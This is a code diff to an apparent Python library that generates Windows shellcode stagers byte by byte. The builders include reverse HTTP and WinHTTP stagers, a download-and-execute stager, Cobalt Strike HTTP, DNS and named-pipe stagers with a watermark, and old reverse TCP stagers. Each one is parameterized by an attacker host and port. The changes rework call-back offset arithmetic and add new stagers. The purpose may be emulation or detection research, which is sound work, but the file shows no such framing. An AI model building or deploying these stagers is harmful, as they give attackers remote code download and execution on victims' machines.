@@ -84,9 +84,9 @@ def over(text: bytes) -> bytes:
     return b"\xe8" + dword(len(text)) + text
 
 
-def back(text: bytes, distance: int = 0x80) -> bytes:
-    """call back to the code that pops the address of the text behind the call"""
-    return b"\xe8" + dword(-distance) + text
+def back(text: bytes, at: int, wanted: int) -> bytes:
+    """call back, from offset `at` to the code that pops the address of the text behind the call"""
+    return b"\xe8" + dword(wanted - at - 5) + text
 
 
 def wide(text: str) -> bytes:
@@ -200,53 +200,45 @@ def reverse_http(
     scheme: str, host: str, port: int, path: str, *, proxy: str = "", agent: str = ""
 ) -> bytes:
     """The stager since 2015: call over the path to the end, where a call back gives the host."""
-    flags = b"\x53\x68" + dword(_FLAGS[scheme]) + b"\x53\x53\x53\x57\x53\x56"
-    request = flags + call("HttpOpenRequestA") + call("HttpSendRequestA") + b"\x58\xc3"
-    connect = b"\x50" + call("InternetConnectA") + b"\x89\xc6" + request
-    text = narrow(path)
-    opened = b"\x53" + (b"\x54" + over(narrow(proxy)) + b"\x6a\x03" if proxy else b"\x53\x53\x53")
-    opened += over(narrow(agent)) if agent else b"\x53"
-    return (
-        start()
-        + call("LoadLibraryA")
-        + opened
-        + call("InternetOpenA")
-        + b"\x53\x53\x6a\x03\x53\x53"
-        + push(port)
-        + b"\xe8"
-        + dword(len(text + connect))
-        + text
-        + connect
-        + b"\x5f"
-        + back(narrow(host))
+    code = start() + call("LoadLibraryA") + b"\x53"
+    code += b"\x54" + over(narrow(proxy)) + b"\x6a\x03" if proxy else b"\x53\x53\x53"
+    code += over(narrow(agent)) if agent else b"\x53"
+    code += call("InternetOpenA") + b"\x53\x53\x6a\x03\x53\x53" + push(port)
+    request = b"\x53\x68" + dword(_FLAGS[scheme]) + b"\x53\x53\x53\x57\x53\x56"
+    request += call("HttpOpenRequestA") + call("HttpSendRequestA") + b"\x58\xc3"
+    return _with_host_at_the_end(
+        code, narrow(path), call("InternetConnectA"), request, narrow(host)
     )
 
 
-def old_reverse_http(scheme: str, host: str, port: int, path: str) -> bytes:
+def _with_host_at_the_end(
+    code: bytes, path: bytes, connect: bytes, request: bytes, host: bytes
+) -> bytes:
+    rest = path + b"\x50" + connect + request
+    wanted = len(code) + 5 + len(path)
+    code += b"\xe8" + dword(len(rest)) + rest + b"\x5f"
+    return code + back(host, len(code), wanted)
+
+
+def old_reverse_http(
+    scheme: str, host: str, port: int, path: str, *, fields: bytes = b"", rest: bytes = b""
+) -> bytes:
     """The stager until 2015: jumps to calls back for both host and path."""
-    return (
-        start("2009")
-        + b"\x57\x57\x57\x57\x56"
-        + call("InternetOpenA")
-        + b"\xeb\x60\x5b\x31\xc9\x51\x51\x6a\x03\x51\x51"
-        + push(port)
-        + b"\x53\x50"
-        + call("InternetConnectA")
-        + b"\xeb\x4f\x59\x31\xd2\x52\x68"
-        + dword(_FLAGS[scheme])
-        + b"\x52\x52\x52\x51\x52\x50"
-        + call("HttpOpenRequestA")
-        + call("HttpSendRequestA")
-        + back(narrow(path))
-        + call("ExitProcess")
-        + back(narrow(host))
-    )
+    code = start("2009") + b"\x57\x57\x57\x57\x56" + call("InternetOpenA") + b"\xeb\x60"
+    host_wanted = len(code)
+    code += b"\x5b\x31\xc9\x51\x51\x6a\x03\x51\x51" + push(port) + b"\x53\x50"
+    code += call("InternetConnectA") + b"\xeb\x4f"
+    path_wanted = len(code)
+    code += b"\x59\x31\xd2\x52\x68" + dword(_FLAGS[scheme]) + b"\x52\x52\x52\x51\x52\x50"
+    code += call("HttpOpenRequestA") + call("HttpSendRequestA")
+    code += back(narrow(path), len(code), path_wanted) + fields + call("ExitProcess") + rest
+    return code + back(narrow(host), len(code), host_wanted)
 
 
 def download_exec(scheme: str, host: str, port: int, path: str, file: str) -> bytes:
-    body, host_call = old_reverse_http(scheme, host, port, path), back(narrow(host))
-    rest = call("CreateFileA") + call("WinExec") + back(narrow(file))
-    return body.removesuffix(host_call) + rest + host_call
+    execute = call("CreateFileA") + call("WinExec")
+    rest = execute + back(narrow(file), len(execute), 0)
+    return old_reverse_http(scheme, host, port, path, rest=rest)
 
 
 def x64_reverse_http(scheme: str, host: str, port: int, path: str) -> bytes:
@@ -269,47 +261,29 @@ def x64_reverse_http(scheme: str, host: str, port: int, path: str) -> bytes:
 
 def reverse_winhttp(scheme: str, host: str, port: int, path: str) -> bytes:
     """With the whole URL in place of the path: Windows looks up the proxy for it."""
-    text = wide(f"{scheme}://{host}:{port}{path}")
-    flags = b"\x68" + dword(0x00800100 if scheme == "https" else 0x00000100)
-    connect = b"\x50" + call("WinHttpConnect") + flags + b"\x53\x53\x53\x57\x53\x50"
-    connect += call("WinHttpOpenRequest")
-    return (
-        start("2020")
-        + call("LoadLibraryA")
-        + call("WinHttpOpen")
-        + b"\x50\x53"
-        + push(port)
-        + b"\xe8"
-        + dword(len(text + connect))
-        + text
-        + connect
-        + b"\x5f"
-        + back(wide(host))
-    )
+    code = start("2020") + call("LoadLibraryA") + call("WinHttpOpen") + b"\x50\x53" + push(port)
+    request = b"\x68" + dword(0x00800100 if scheme == "https" else 0x00000100)
+    request += b"\x53\x53\x53\x57\x53\x50" + call("WinHttpOpenRequest")
+    url = wide(f"{scheme}://{host}:{port}{path}")
+    return _with_host_at_the_end(code, url, call("WinHttpConnect"), request, wide(host))
 
 
 def cobalt_strike_http(
     scheme: str, host: str, port: int, path: str, headers: str, watermark: int
 ) -> bytes:
     """Path and headers in fields of fixed length, filled with anything; watermark at the end."""
-    block = old_reverse_http(scheme, host, port, path)
-    uri, host_call = back(narrow(path)), back(narrow(host))
-    fields = uri.ljust(84, b"\xa5") + b"\0" + headers.encode().ljust(303, b"\0") + b"\0"
-    return (
-        block.removesuffix(host_call).replace(uri, fields)
-        + call("InternetErrorDlg")
-        + host_call
-        + struct.pack(">I", watermark)
-    )
+    fields = b"\xa5" * 60 + b"\0" + headers.encode().ljust(303, b"\0") + b"\0"
+    code = old_reverse_http(scheme, host, port, path, fields=fields, rest=call("InternetErrorDlg"))
+    return code + struct.pack(">I", watermark)
 
 
 def cobalt_strike_dns(name: str) -> bytes:
-    return start("2009") + call("DnsQuery_A") + b"\x90" + back(b"\0" + narrow(name))
+    return start("2009") + call("DnsQuery_A") + b"\x90" + back(b"\0" + narrow(name), 9, 0)
 
 
 def cobalt_strike_pipe(name: str) -> bytes:
     calls = call("CreateNamedPipeA") + call("ReadFile") + call("DisconnectNamedPipe")
-    return start("2009") + calls + back(narrow(rf"\\.\pipe\{name}"))
+    return start("2009") + calls + back(narrow(rf"\\.\pipe\{name}"), len(calls), 0)
 
 
 def execute(command: str) -> bytes:
@@ -348,3 +322,14 @@ def x64_download(url: str, file: str) -> bytes:
 
 def messagebox() -> bytes:
     return start() + call("LoadLibraryA") + call("MessageBoxA")
+
+
+def reverse_nonx_tcp(host: str, port: int) -> bytes:
+    """A stager of 2005: hashes of 16 bits, the address pushed in three parts."""
+    address = b"\x68" + IPv4Address(host).packed + b"\x66\x68" + port_bytes(port) + b"\x66\x53"
+    return b"\xfc\x6a\xeb\x66\xb9\x72\x60\xff\xd6" + address + b"\x89\xe3\x66\xb9\x57\x05\xff\xd6"
+
+
+def reverse_ord_tcp(host: str, port: int) -> bytes:
+    """A stager that looks for ws2_32.dll and calls its functions by their ordinals."""
+    return b"\xfc\x31\xdb\x3d\x32\x33\x5f\x32\x75\xef\x97" + sockaddr(host, port) + b"\xff\xe5"
